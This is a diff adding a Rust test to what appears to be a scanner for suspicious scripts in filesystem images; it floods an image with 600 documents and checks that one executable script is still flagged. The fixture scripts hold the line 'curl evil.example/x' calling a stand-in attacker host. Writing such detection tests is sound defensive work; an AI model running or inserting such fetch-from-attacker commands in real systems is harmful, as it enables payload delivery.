@@ -170,6 +170,18 @@ fn what_the_start_reaches_is_no_list() {
 }
 
 #[test]
+fn no_crowd_of_documents_hides_a_script() {
+    let mut image = listing(Kind::Network, LIST);
+    for number in 0..600 {
+        image.file(&format!("usr/share/doc/{number}"), 0o644, b"see http://evil.example/x\n");
+    }
+    image.file("zz/run.sh", 0o755, b"#!/bin/sh\ncurl evil.example/x\n");
+    let found = found(&image);
+    assert_eq!(found.len(), 257);
+    assert_eq!(found.iter().filter(|finding| finding.1 == Role::Corroborates).count(), 1);
+}
+
+#[test]
 fn a_removed_script_only_explains() {
     let mut image = listing(Kind::Network, LIST);
     image.file("opt/run.sh", 0o755, b"#!/bin/sh\ncurl evil.example/x\n").layer().file(
